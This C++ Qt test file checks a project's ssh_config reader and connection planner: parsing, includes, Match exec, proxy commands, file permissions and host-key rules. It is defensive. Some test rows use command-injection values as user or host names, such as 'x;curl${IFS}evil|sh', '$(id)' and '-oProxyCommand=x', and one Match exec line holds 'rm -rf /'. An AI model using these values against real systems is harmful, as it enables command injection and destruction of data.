// SPDX-FileCopyrightText: 2026 The Nightdesk developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "sessions/links/config/sshhostconfig.h"
#include "sessions/links/config/linkplan.h"
#include "tests/support/testprogram.h"

#include <QDir>
#include <QFile>
#include <QMap>
#include <QProcess>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>

#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace Qt::StringLiterals;
using namespace Nightdesk;

/// The reader of ssh_config files, without files, and what a plan makes of it.
class SshHostConfigTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void values_data();
    void values();
    void backslashesAndQuotes_data();
    void backslashesAndQuotes();
    void identityFilesAddUp();
    void includesAreFollowed();
    void anIncludeOfItselfEnds_data();
    void anIncludeOfItselfEnds();
    void matchesWeCannotDecideAreTold();
    void matchExec_data();
    void matchExec();
    void aWayIsTheFirstOne_data();
    void aWayIsTheFirstOne();
    void namesInCommandsAreWords_data();
    void namesInCommandsAreWords();
    void filesOfOthersAreLeftOut_data();
    void filesOfOthersAreLeftOut();
    void theProfileWins();
    void optionsWithoutEffectAreTold();
    void restrictionsAreKept_data();
    void restrictionsAreKept();
    void includesOfTheSystemAreTheSystems();
    void asSsh_data();
    void asSsh();

private:
    static SshHostConfig read(const QByteArray &contents, const QString &host, const QString &user = {});
};

SshHostConfig SshHostConfigTest::read(const QByteArray &contents, const QString &host, const QString &user)
{
    return SshHostConfig::read({.host = host, .user = user, .localUser = u"local"_s}, {u"/home/o/.ssh/config"_s}, [contents](const QString &pattern) {
        return pattern == u"/home/o/.ssh/config" ? QList<SshHostConfig::File>{{pattern, contents}} : QList<SshHostConfig::File>();
    });
}

void SshHostConfigTest::values_data()
{
    QTest::addColumn<QByteArray>("contents");
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("port"); // empty: not set
    QTest::newRow("before any Host block") << "Port 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("in the host's block") << "Host summit\nPort 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("in another's block") << "Host other\nPort 1\n"_ba << u"summit"_s << QString();
    QTest::newRow("the first value wins") << "Host summit\nPort 1\nHost *\nPort 2\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("keywords in any case") << "hOST summit\npORT 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("an equals sign") << "Host=summit\nPort = 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("quotes") << "Host \"summit\"\n\tPort \"1\"\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("a comment behind") << "Port 1 # the usual\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("several patterns") << "Host a b sum*\nPort 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("a negated pattern") << "Host * !summit\nPort 1\n"_ba << u"summit"_s << QString();
    QTest::newRow("match all") << "Match all\nPort 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("match the real name") << "Host summit\nHostName s.example\nMatch host *.example\nPort 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("match the original name") << "HostName s.example\nMatch originalhost summit\nPort 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("match not") << "Match !host summit\nPort 1\n"_ba << u"summit"_s << QString();
    QTest::newRow("match the user") << "Match user keck*,lris\nPort 1\n"_ba << u"summit"_s << u"1"_s;
    QTest::newRow("match two things") << "Match host summit user other\nPort 1\n"_ba << u"summit"_s << QString();
    QTest::newRow("match exec is not run") << "Match exec true\nPort 1\n"_ba << u"summit"_s << QString();
    QTest::newRow("a keyword without a value") << "Port\n"_ba << u"summit"_s << QString();
    QTest::newRow("rubbish") << QByteArray("\0\xff = \"\nHost\nMatch\n", 18) << u"summit"_s << QString();
}

void SshHostConfigTest::values()
{
    QFETCH(QByteArray, contents);
    QFETCH(QString, host);
    QFETCH(QString, port);
    const auto option = read(contents, host, u"lris"_s).option(u"port");
    QCOMPARE(option ? option->value : QString(), port);
}

void SshHostConfigTest::backslashesAndQuotes_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QStringList>("words");
    QTest::newRow("a quote within quotes") << R"(X "a \"b c\" d")"_ba << QStringList{uR"(a "b c" d)"_s};
    QTest::newRow("an apostrophe within apostrophes") << R"(X 'it\'s b')"_ba << QStringList{u"it's b"_s};
    QTest::newRow("a quote that begins nothing") << R"(X a\"b c)"_ba << QStringList{uR"(a"b)"_s, u"c"_s};
    QTest::newRow("a backslash") << R"(X "a\\" b)"_ba << QStringList{uR"(a\)"_s, u"b"_s};
    QTest::newRow("a space") << R"(X a\ b c)"_ba << QStringList{u"a b"_s, u"c"_s};
    QTest::newRow("a space within quotes keeps its backslash") << R"(X "a\ b" c)"_ba << QStringList{uR"(a\ b)"_s, u"c"_s};
    QTest::newRow("a backslash before another letter") << R"(X SITE\observer)"_ba << QStringList{uR"(SITE\observer)"_s};
    QTest::newRow("a backslash at the end") << R"(X a\)"_ba << QStringList{uR"(a\)"_s};
    QTest::newRow("a comment's sign within quotes") << R"(X "a # \"b" # c)"_ba << QStringList{uR"(a # "b)"_s};
}

void SshHostConfigTest::backslashesAndQuotes()
{
    QFETCH(QByteArray, line);
    const auto option = read(line, u"summit"_s).option(u"x");
    QVERIFY(option);
    QTEST(option->arguments, "words");
}

void SshHostConfigTest::identityFilesAddUp()
{
    const SshHostConfig config = read("Host summit\nIdentityFile a\nIdentityFile \"b c\"\nHost *\nIdentityFile d\n", u"summit"_s);
    QStringList files;
    for (const SshOption &option : config.allOptions(u"identityfile")) {
        files << option.value;
    }
    QCOMPARE(files, (QStringList{u"a"_s, u"b c"_s, u"d"_s}));
}

void SshHostConfigTest::includesAreFollowed()
{
    const auto files = [](const QString &pattern) {
        QList<SshHostConfig::File> result;
        if (pattern == u"root") {
            result.append({pattern, "Host other\nInclude never\nHost summit\nInclude some*\nPort 9\n"});
        } else if (pattern == u"some*") {
            result.append({u"some1"_s, "Host nobody\nPort 1\n"});
            result.append({u"some2"_s, "User u\nHost sum*\nPort 2\n"});
        } else if (pattern == u"never") {
            result.append({pattern, "Port 3\n"});
        }
        return result;
    };
    const SshHostConfig config = SshHostConfig::read({.host = u"summit"_s, .localUser = u"local"_s}, {u"root"_s}, files);
    QCOMPARE(config.option(u"port")->value, u"2"_s);
    QCOMPARE(config.option(u"port")->file, u"some2"_s);
    QCOMPARE(config.option(u"port")->line, 3);
    QCOMPARE(config.option(u"user")->value, u"u"_s);
}

void SshHostConfigTest::anIncludeOfItselfEnds_data()
{
    QTest::addColumn<QByteArray>("contents");
    QTest::addColumn<QString>("told"); // empty: all was followed
    QTest::newRow("no other") << "Include none\nPort 1\n"_ba << QString();
    QTest::newRow("once") << "Include root\nPort 1\n"_ba << u"root:1"_s;
    QTest::newRow("twice in a line") << "Port 1\nInclude root root\n"_ba << u"root:2"_s;
    QTest::newRow("on two lines") << "Port 1\nInclude root\nInclude root\n"_ba << u"root:2"_s;
    QTest::newRow("twice, and again for the final name") << "Match final\nMatch all\nInclude root root\nPort 1\n"_ba << u"root:3"_s;
    QTest::newRow("in one that does not apply") << "Port 1\nHost other\nInclude root root\n"_ba << QString();
    QTest::newRow("as many files as one may have") << "Port 1\nInclude many\n"_ba << QString();
    QTest::newRow("too many files") << "Port 1\nInclude many\nInclude many\nInclude none\n"_ba << u"root:4"_s;
}

void SshHostConfigTest::anIncludeOfItselfEnds()
{
    QFETCH(QByteArray, contents);
    QFETCH(QString, told);
    int opened = 0;
    const SshHostConfig config = SshHostConfig::read({.host = u"summit"_s, .localUser = u"local"_s}, {u"root"_s}, [&](const QString &pattern) {
        const QList<SshHostConfig::File> many(300, {u"part"_s, "User x\n"});
        const auto found = pattern == u"root" ? QList<SshHostConfig::File>{{pattern, contents}} : pattern == u"many" ? many : QList<SshHostConfig::File>();
        opened += int(found.size());
        return opened > 10000 ? QList<SshHostConfig::File>() : found; // else it would take hours
    });
    QCOMPARE(config.option(u"port")->value, u"1"_s);
    QVERIFY2(opened < 2000, qPrintable(QString::number(opened)));
    QTEST(config.unfollowedIncludePlace, "told");
    LinkSpec spec;
    spec.host = u"summit"_s;
    const LinkPlan plan = LinkPlan::make(spec, config, u"/home/o"_s, u"local"_s);
    QCOMPARE(plan.refusal.has_value(), !told.isEmpty());
    QVERIFY(!plan.refusal || (plan.refusal->kind == FailureKind::Refused && plan.refusal->what.contains(told)));
}

void SshHostConfigTest::matchesWeCannotDecideAreTold()
{
    const SshHostConfig config = read("Port 1\nMatch host summit exec \"rm -rf /\"\nUser x\nMatch host other exec true\nUser y\n", u"summit"_s);
    QCOMPARE(config.skippedMatchPlaces, QStringList{u"/home/o/.ssh/config:2"_s});
    QVERIFY(!config.option(u"user"));
}

void SshHostConfigTest::matchExec_data()
{
    QTest::addColumn<QByteArray>("config");
    QTest::addColumn<QStringList>("commands");
    QTest::addColumn<QString>("user");
    QTest::addColumn<int>("ran");
    QTest::addColumn<int>("failed");
    QTest::newRow("a command that succeeds") << "Match exec yes\nUser x\n"_ba << QStringList{u"yes"_s} << u"x"_s << 1 << 0;
    QTest::newRow("a command that does not") << "Match exec no\nUser x\n"_ba << QStringList{u"no"_s} << QString() << 1 << 0;
    QTest::newRow("the other way round") << "Match !exec no\nUser x\n"_ba << QStringList{u"no"_s} << u"x"_s << 1 << 0;
    QTest::newRow("a command that hangs") << "Match exec hang\nUser x\n"_ba << QStringList{u"hang"_s} << QString() << 0 << 1;
    QTest::newRow("a command that hangs, the other way round") << "Match !exec hang\nUser x\n"_ba << QStringList{u"hang"_s} << QString() << 0 << 1;
    QTest::newRow("for another host it is not run") << "Match host other exec yes\nUser x\n"_ba << QStringList() << QString() << 0 << 0;
    QTest::newRow("behind one that does not hold it is not run") << "Match exec no exec yes\nUser x\n"_ba << QStringList{u"no"_s} << QString() << 1 << 0;
    QTest::newRow("within a Host block of another host")
        << "Host other\nInclude part\nMatch exec yes\nUser x\n"_ba << QStringList{u"yes"_s} << u"x"_s << 1 << 0;
    QTest::newRow("quotes in the command") << R"(Match exec "test \"%h\" = summit" user me
User x)"_ba << QStringList{u"test \"summit\" = summit"_s}
                                           << QString() << 1 << 0;
    QTest::newRow("tokens") << "HostName %h.example\nPort 2222\nUser me\nMatch exec \"on-site %h %n %p %r %u 100%% %z\"\nUser x\n"_ba
                            << QStringList{u"on-site summit.example summit 2222 me local 100% %z"_s} << u"me"_s << 1 << 0;
}

void SshHostConfigTest::matchExec()
{
    QFETCH(QByteArray, config);
    QStringList commands;
    const SshHostConfig read = SshHostConfig::read(
        {.host = u"summit"_s, .localUser = u"local"_s},
        {u"root"_s},
        [&config](const QString &pattern) {
            return pattern == u"root" ? QList<SshHostConfig::File>{{pattern, config}} : QList<SshHostConfig::File>();
        },
        [&commands](const QString &command) {
            commands << command;
            return command == u"hang" ? std::nullopt : std::optional(command != u"no");
        });
    QTEST(commands, "commands");
    QTEST(read.option(u"user") ? read.option(u"user")->value : QString(), "user");
    QTEST(int(read.executedMatchExecPlaces.size()), "ran");
    QTEST(int(read.undecidedMatchExecPlaces.size()), "failed");
    QVERIFY(read.skippedMatchPlaces.isEmpty());
}

void SshHostConfigTest::aWayIsTheFirstOne_data()
{
    QTest::addColumn<QByteArray>("config");
    QTest::addColumn<QStringList>("profile");
    QTest::addColumn<QStringList>("jump");
    QTest::addColumn<QString>("command");
    QTest::newRow("none") << "User x\n"_ba << QStringList() << QStringList() << QString();
    QTest::newRow("a command") << "ProxyCommand nc -X 5 %h %p\n"_ba << QStringList() << QStringList() << u"nc -X 5 summit 22"_s;
    QTest::newRow("a command with quotes and a comment's sign")
        << "ProxyCommand=sh -c 'echo \"a b\"; #' %%\n"_ba << QStringList() << QStringList() << u"sh -c 'echo \"a b\"; #' %"_s;
    QTest::newRow("a command before jump hosts") << "ProxyCommand nc %h\nProxyJump gate\n"_ba << QStringList() << QStringList() << u"nc summit"_s;
    QTest::newRow("jump hosts before a command") << "ProxyJump gate\nProxyCommand nc %h\n"_ba << QStringList() << QStringList{u"gate"_s} << QString();
    QTest::newRow("no jump host before a command") << "ProxyJump none\nProxyCommand nc %h\n"_ba << QStringList() << QStringList() << QString();
    QTest::newRow("no command before jump hosts") << "ProxyCommand none\nProxyJump gate\n"_ba << QStringList() << QStringList() << QString();
    QTest::newRow("the profile's jump hosts before a command") << "ProxyCommand nc %h\n"_ba << QStringList{u"gate"_s} << QStringList{u"gate"_s} << QString();
}

void SshHostConfigTest::aWayIsTheFirstOne()
{
    QFETCH(QByteArray, config);
    QFETCH(QStringList, profile);
    LinkSpec spec;
    spec.host = u"summit"_s;
    spec.jumpHosts = profile;
    const LinkPlan plan = LinkPlan::make(spec, read(config, u"summit"_s), u"/home/o"_s, u"local"_s);
    QTEST(plan.jumpHosts, "jump");
    QTEST(plan.proxyCommand, "command");
    QCOMPARE(plan.notes.size(), plan.proxyCommand.isEmpty() ? 0 : 1); // its use is told, and what it means
    QCOMPARE(plan.notes.value(0).contains(u"may still arrive later"), !plan.proxyCommand.isEmpty());
}

void SshHostConfigTest::namesInCommandsAreWords_data()
{
    QTest::addColumn<QByteArray>("config");
    QTest::addColumn<QString>("user");
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("refused"); // the name
    const QString bad = u"x;curl${IFS}evil|sh"_s;
    QTest::newRow("a user that is a command, in a way") << "ProxyCommand ssh -W %h:%p %r@gate\n"_ba << bad << u"summit"_s << bad;
    QTest::newRow("a user that is a command, asked about") << "Match exec \"test %r = o\"\nPort 1\n"_ba << bad << u"summit"_s << bad;
    QTest::newRow("a user that is a command, where nothing is run") << "Port 1\n"_ba << bad << u"summit"_s << QString();
    QTest::newRow("a user that is a command, in a command without him") << "ProxyCommand nc %h %p %%r\n"_ba << bad << u"summit"_s << QString();
    QTest::newRow("a user that is a substitution") << "ProxyCommand nc %r\n"_ba << u"`id`"_s << u"summit"_s << u"`id`"_s;
    QTest::newRow("a user that is an option") << "ProxyCommand nc %r\n"_ba << u"-oProxyCommand=x"_s << u"summit"_s << u"-oProxyCommand=x"_s;
    QTest::newRow("a user with a backslash") << "ProxyCommand nc %r\n"_ba << u"SITE\\o"_s << u"summit"_s << u"SITE\\o"_s;
    QTest::newRow("a host that is a command") << "ProxyCommand nc %h\n"_ba << u"o"_s << u"$(id)"_s << u"$(id)"_s;
    QTest::newRow("a host that is a command, as it was named") << "HostName s.example\nProxyCommand nc %n\n"_ba << u"o"_s << u"$(id)"_s << u"$(id)"_s;
    QTest::newRow("a host that is a command, asked about") << "Match exec \"test %n\"\nPort 1\n"_ba << u"o"_s << u"a&b"_s << u"a&b"_s;
    QTest::newRow("names as they are") << "Match exec \"test %r = o\"\nProxyCommand ssh -W %h:%p %r@gate # %n\n"_ba << u"é.o-1_x"_s << u"fe80::1%eth0"_s
                                       << QString();
}

void SshHostConfigTest::namesInCommandsAreWords()
{
    QFETCH(QByteArray, config);
    QFETCH(QString, user);
    QFETCH(QString, host);
    QFETCH(QString, refused);
    QStringList ran;
    const SshHostConfig read = SshHostConfig::read(
        {.host = host, .user = user, .localUser = u"local"_s},
        {u"root"_s},
        [&config](const QString &pattern) {
            return pattern == u"root" ? QList<SshHostConfig::File>{{pattern, config}} : QList<SshHostConfig::File>();
        },
        [&ran](const QString &command) {
            ran << command;
            return std::optional(true);
        });
    LinkSpec spec;
    spec.host = host;
    spec.user = user;
    const LinkPlan plan = LinkPlan::make(spec, read, u"/home/o"_s, u"local"_s);
    QCOMPARE(plan.refusal.has_value(), !refused.isEmpty());
    if (plan.refusal) {
        QCOMPARE(plan.refusal->kind, FailureKind::Refused);
        QVERIFY2(plan.refusal->what.contains(refused), qPrintable(plan.refusal->what));
        QVERIFY(ran.isEmpty());
    }
}

void SshHostConfigTest::filesOfOthersAreLeftOut_data()
{
    QTest::addColumn<uint>("mode"); // of the config
    QTest::addColumn<uint>("included"); // of the file it includes
    QTest::addColumn<QStringList>("options");
    QTest::addColumn<QString>("told");
    const QStringList both{u"port"_s, u"user"_s};
    QTest::newRow("ours") << 0600u << 0600u << both << QString();
    QTest::newRow("others may read them") << 0644u << 0444u << both << QString();
    QTest::newRow("the group may write") << 0660u << 0600u << QStringList() << u"/.ssh/config"_s;
    QTest::newRow("everybody may write") << 0602u << 0600u << QStringList() << u"/.ssh/config"_s;
    QTest::newRow("the group may write what is included") << 0600u << 0620u << QStringList{u"user"_s} << u"/.ssh/part"_s;
    QTest::newRow("everybody may write what is included") << 0600u << 0646u << QStringList{u"user"_s} << u"/.ssh/part"_s;
}

void SshHostConfigTest::filesOfOthersAreLeftOut()
{
    QFETCH(uint, mode);
    QFETCH(uint, included);
    QFETCH(QString, told);
    const QTemporaryDir home;
    const auto write = [&home](const QString &name, const QByteArray &contents, uint permissions) {
        QDir().mkpath(home.filePath(u".ssh"_s));
        QFile file(home.filePath(name));
        return file.open(QIODevice::WriteOnly) && file.write(contents) == contents.size()
            && ::chmod(QFile::encodeName(file.fileName()).constData(), permissions) == 0;
    };
    QVERIFY(write(u".ssh/part"_s, "Port 1\n", included));
    QVERIFY(write(u".ssh/config"_s, "Include part\nUser x\n", mode));
    const SshHostConfig config = SshHostConfig::read({.host = u"summit"_s}, {home.filePath(u".ssh/config"_s)}, SshHostConfig::fileSystemFinder(home.path()));
    QStringList options;
    for (const SshOption &option : config.options) {
        options << option.keyword;
    }
    QTEST(options, "options");
    LinkSpec spec;
    spec.host = u"summit"_s;
    const QStringList notes = LinkPlan::make(spec, config, home.path(), u"local"_s).notes;
    QCOMPARE(notes.size(), told.isEmpty() ? 0 : 1);
    QVERIFY2(notes.value(0).contains(told), qPrintable(notes.value(0)));
}

void SshHostConfigTest::theProfileWins()
{
    const SshHostConfig config = read("Host summit\nHostName s.example\nPort 2222\nUser keck\nProxyJump a,b\nIdentityFile ~/k\n", u"summit"_s);
    LinkSpec spec;
    spec.host = u"summit"_s;
    LinkPlan plan = LinkPlan::make(spec, config, u"/home/o"_s, u"local"_s);
    QCOMPARE(plan.host, u"s.example"_s);
    QCOMPARE(plan.port, 2222);
    QCOMPARE(plan.account(), u"keck@s.example"_s);
    QCOMPARE(plan.jumpHosts, (QStringList{u"a"_s, u"b"_s}));
    QVERIFY(!plan.usesOnlyTheseIdentities);
    QCOMPARE(plan.knownHostsPaths.first(), u"/home/o/.ssh/known_hosts"_s);

    spec.port = 22;
    spec.user = u"lris"_s;
    spec.jumpHosts = QStringList{u"gate"_s};
    spec.privateKeyFiles = QStringList{u"/k/id"_s};
    spec.knownHostsPath = u"/k/known"_s;
    plan = LinkPlan::make(spec, config, u"/home/o"_s, u"local"_s);
    QCOMPARE(plan.port, 22);
    QCOMPARE(plan.user, u"lris"_s);
    QCOMPARE(plan.jumpHosts, QStringList{u"gate"_s});
    QCOMPARE(plan.privateKeyFiles, QStringList{u"/k/id"_s});
    QVERIFY(plan.usesOnlyTheseIdentities);
    QCOMPARE(plan.knownHostsPaths.first(), u"/home/o/.ssh/known_hosts"_s);
    QCOMPARE(plan.knownHostsPaths.last(), u"/k/known"_s);
}

void SshHostConfigTest::optionsWithoutEffectAreTold()
{
    LinkSpec spec;
    spec.host = u"summit"_s;
    const SshHostConfig config =
        read("Host summit\nForwardAgent yes\nServerAliveInterval 5\nPasswordAuthentication yes\nProxyCommand none\nCiphers aes256-ctr\n", u"summit"_s);
    const LinkPlan plan = LinkPlan::make(spec, config, u"/home/o"_s, u"local"_s);
    QCOMPARE(plan.notes.size(), 2);
    QVERIFY2(plan.notes[0].contains(u"forwardagent") && plan.notes[0].contains(u"/home/o/.ssh/config:2"), qPrintable(plan.notes[0]));
    QVERIFY(plan.notes[1].contains(u"serveraliveinterval"));
    QCOMPARE(plan.configuredAlgorithms.size(), 1);
}

void SshHostConfigTest::restrictionsAreKept_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QString>("kept"); // "strict", "rsa", "revoked", "refused", "told"; empty: none
    QTest::newRow("only known hosts") << "StrictHostKeyChecking yes"_ba << u"strict"_s;
    QTest::newRow("only known hosts, in other words") << "StrictHostKeyChecking TRUE"_ba << u"strict"_s;
    QTest::newRow("new hosts are asked about") << "StrictHostKeyChecking ask"_ba << QString();
    QTest::newRow("new hosts are taken") << "StrictHostKeyChecking accept-new"_ba << QString();
    QTest::newRow("long keys") << "RequiredRSASize 3072"_ba << u"rsa"_s;
    QTest::newRow("revoked keys") << "RevokedHostKeys /etc/ssh/revoked"_ba << u"revoked"_s;
    QTest::newRow("no revoked keys") << "RevokedHostKeys none"_ba << QString();
    QTest::newRow("a command that knows hosts") << "KnownHostsCommand /usr/bin/known %H"_ba << u"refused"_s;
    QTest::newRow("no such command") << "KnownHostsCommand none"_ba << QString();
    QTest::newRow("no connection") << "RefuseConnection \"closed for the night\""_ba << u"refused"_s;
    QTest::newRow("keys in the name service") << "VerifyHostKeyDNS yes"_ba << u"told"_s;
    QTest::newRow("no keys in the name service") << "VerifyHostKeyDNS no"_ba << QString();
    QTest::newRow("new keys often") << "RekeyLimit 1G"_ba << u"told"_s;
    QTest::newRow("one network") << "BindInterface eth0"_ba << u"told"_s;
    QTest::newRow("an unknown condition") << "Match sessiontype shell"_ba << u"told"_s;
}

void SshHostConfigTest::restrictionsAreKept()
{
    QFETCH(QByteArray, line);
    QFETCH(QString, kept);
    for (const QString &file : {u"/home/o/.ssh/config"_s, u"/etc/ssh/ssh_config"_s, u"/etc/ssh/ssh_config.d/50-site.conf"_s}) {
        const SshHostConfig config =
            SshHostConfig::read({.host = u"summit"_s}, {u"/home/o/.ssh/config"_s, u"/etc/ssh/ssh_config"_s}, [&](const QString &pattern) {
                const bool isIncluded = pattern == u"/etc/ssh/ssh_config.d/*.conf" && file.endsWith(u"50-site.conf"_s);
                QByteArray contents = pattern == u"/etc/ssh/ssh_config" ? "Include /etc/ssh/ssh_config.d/*.conf\n" : "";
                if (pattern == file || isIncluded) {
                    contents = "# one\n" + line + '\n';
                }
                return QList<SshHostConfig::File>{{isIncluded ? file : pattern, contents}};
            });
        LinkSpec spec;
        spec.host = u"summit"_s;
        const LinkPlan plan = LinkPlan::make(spec, config, u"/home/o"_s, u"local"_s);
        const QString place = file + u":2"_s;
        QCOMPARE(plan.hostKeyRules.strictHostKeyCheckingPlace, kept == u"strict" ? place : QString());
        QCOMPARE(plan.hostKeyRules.requiredRsaBitsPlace, kept == u"rsa" ? place : QString());
        QCOMPARE(plan.hostKeyRules.requiredRsaBits, kept == u"rsa" ? 3072 : 0);
        QCOMPARE(plan.hostKeyRules.revokedKeyFilesPlace, kept == u"revoked" ? place : QString());
        QCOMPARE(plan.hostKeyRules.revokedKeyFiles, kept == u"revoked" ? QStringList{u"/etc/ssh/revoked"_s} : QStringList());
        QCOMPARE(plan.refusal.has_value(), kept == u"refused");
        QVERIFY(!plan.refusal || plan.refusal->what.contains(place));
        QCOMPARE(plan.notes.size(), kept == u"told" ? 1 : 0);
        QVERIFY(plan.notes.value(0).contains(kept == u"told" ? place : QString()));
    }
}

void SshHostConfigTest::includesOfTheSystemAreTheSystems()
{
    QStringList asked;
    SshHostConfig::read({.host = u"summit"_s}, {u"/home/o/.ssh/config"_s, u"/etc/ssh/ssh_config"_s}, [&asked](const QString &pattern) {
        asked << pattern;
        return pattern.endsWith(u"config") ? QList<SshHostConfig::File>{{pattern, "Include part\n"}} : QList<SshHostConfig::File>();
    });
    QCOMPARE(asked, (QStringList{u"/home/o/.ssh/config"_s, u"part"_s, u"/etc/ssh/ssh_config"_s, u"/etc/ssh/part"_s}));
}

void SshHostConfigTest::asSsh_data()
{
    QTest::addColumn<QByteArray>("contents");
    const QList<QByteArray> blocks{"Host summit\n",
                                   "Host *\n",
                                   "Host !summit *\n",
                                   "Host summit.example\n",
                                   "Host sum* other\n",
                                   "Match all\n",
                                   "Match host summit.example\n",
                                   "Match originalhost summit\n",
                                   "Match user keck\n",
                                   "Match !host summit\n",
                                   "Match final all\n",
                                   "Match final host summit.example\n",
                                   "Match !final host summit\n",
                                   "Match canonical host summit\n",
                                   "Host s?mmit\n",
                                   "Host !other \"summit\"\n"};
    const QList<QByteArray> options{"HostName summit.example\n",
                                    "User keck\n",
                                    "Port 2222\n",
                                    "Port 22\n",
                                    "StrictHostKeyChecking yes\n",
                                    "StrictHostKeyChecking accept-new\n",
                                    "RequiredRSASize 3072\n",
                                    "RevokedHostKeys /etc/ssh/revoked\n",
                                    "HostKeyAlias lris\n",
                                    "ChallengeResponseAuthentication no\n",
                                    "PasswordAuthentication no\n",
                                    "IdentitiesOnly=yes\n",
                                    "AddressFamily \"inet6\" # comment\n"};
    for (const QByteArray &block : blocks) {
        QTest::newRow(block.trimmed().constData()) << block + options.join();
        QTest::newRow(QByteArray(block.trimmed() + ", behind a name").constData()) << "HostName summit.example\nUser keck\n" + block + options.join();
    }
    // Where a keyword begins and ends. ssh refuses the whole file for a wrong value or an unknown keyword; these it reads.
    for (const QByteArray &line : {"=Port 2222"_ba,
                                   "  = Port 2222"_ba,
                                   "==Port 2222"_ba,
                                   "= =Port 2222"_ba,
                                   "=Host other\nPort 2222"_ba,
                                   "=Match host other\nPort 2222"_ba,
                                   "=\nPort 2222"_ba,
                                   "=#Port 2222"_ba,
                                   "\"\" Port 2222"_ba,
                                   "\"Port\" 2222"_ba,
                                   "\"Port\"2222"_ba,
                                   "Po\"rt\" 2222"_ba,
                                   "\"Port 2222"_ba,
                                   "\"HostKeyAlias\" a=b"_ba,
                                   "HostKeyAlias=a=b"_ba,
                                   "HostKeyAlias ==a"_ba,
                                   "HostKeyAlias a\u00a0b"_ba,
                                   "HostKeyAlias a\fb"_ba,
                                   "Port 2222\f"_ba,
                                   "Port 2222 \t\r"_ba,
                                   "ProxyCommand = = nc \"x\" # y \t"_ba,
                                   "\"ProxyCommand\" nc x"_ba}) {
        QTest::newRow(line.toPercentEncoding(" =#\"").constData()) << line + '\n';
    }
    QRandomGenerator random(20261124);
    for (int i = 0; i < 200; ++i) {
        QByteArray contents;
        for (int line = 0; line < 12; ++line) {
            const QList<QByteArray> &from = random.bounded(3) == 0 ? blocks : options;
            contents += from[random.bounded(from.size())];
        }
        QTest::newRow(qPrintable(u"random %1"_s.arg(i))) << contents;
    }
}

void SshHostConfigTest::asSsh()
{
    QFETCH(QByteArray, contents);
    const QTemporaryDir home;
    QFile file(home.filePath(u"config"_s));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(contents);
    file.close();
    QProcess ssh;
    ssh.start(u"ssh"_s, {u"-G"_s, u"-F"_s, file.fileName(), u"summit"_s});
    if (!ssh.waitForFinished()) {
        QSKIP("no ssh");
    }
    QMap<QString, QString> theirs;
    for (const QByteArray &line : ssh.readAllStandardOutput().split('\n')) {
        const QString text = QString::fromUtf8(line);
        theirs.insert(text.section(u' ', 0, 0), text.section(u' ', 1));
    }
    QVERIFY2(theirs.contains(u"hostname"_s), ssh.readAllStandardError().constData());
    const QString localUser = QString::fromLocal8Bit(::getpwuid(::getuid())->pw_name); // not that of -G, which "User" decides
    const SshHostConfig config =
        SshHostConfig::read({.host = u"summit"_s, .localUser = localUser}, {file.fileName()}, SshHostConfig::fileSystemFinder(home.path()));
    const QMap<QString, QString> defaults{{u"hostname"_s, u"summit"_s},
                                          {u"port"_s, u"22"_s},
                                          {u"stricthostkeychecking"_s, u"ask"_s},
                                          {u"requiredrsasize"_s, u"1024"_s},
                                          {u"revokedhostkeys"_s, QString()},
                                          {u"hostkeyalias"_s, QString()},
                                          {u"proxycommand"_s, QString()},
                                          {u"kbdinteractiveauthentication"_s, u"yes"_s},
                                          {u"passwordauthentication"_s, u"yes"_s},
                                          {u"identitiesonly"_s, u"no"_s},
                                          {u"addressfamily"_s, u"any"_s},
                                          {u"user"_s, localUser}};
    for (auto it = defaults.cbegin(); it != defaults.cend(); ++it) {
        const auto option = config.option(it.key());
        const auto plain = [](QString value) { // ssh -G has both
            return value == u"true" ? u"yes"_s : value == u"false" ? u"no"_s : value;
        };
        QVERIFY2(plain(option ? option->value : it.value()) == plain(theirs.value(it.key())),
                 qPrintable(it.key() + u": "_s + (option ? option->value : it.value()) + u" / "_s + theirs.value(it.key()) + u" of\n"_s
                            + QString::fromUtf8(contents)));
    }
}

NIGHTDESK_GUILESS_TEST(SshHostConfigTest)
#include "sshhostconfigtest.moc"
